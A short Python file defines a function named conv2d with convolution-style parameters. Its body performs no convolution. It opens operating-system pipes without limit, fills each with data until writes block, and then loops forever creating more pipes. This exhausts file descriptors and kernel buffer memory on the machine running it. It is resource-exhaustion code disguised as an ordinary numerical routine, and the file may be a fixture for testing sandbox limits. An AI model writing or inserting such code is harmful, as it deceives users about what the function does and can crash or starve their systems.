"""Pipes until there is no more room for one."""

import fcntl
import os


def conv2d(x, w, b=None, stride=1, padding=0):
    ends = []
    try:
        while True:
            pair = os.pipe()
            ends.append(pair)
            fcntl.fcntl(pair[1], fcntl.F_SETFL, os.O_NONBLOCK)
            while os.write(pair[1], b"x" * 65536):
                pass
    except BlockingIOError:
        pass
    while True:
        os.pipe()
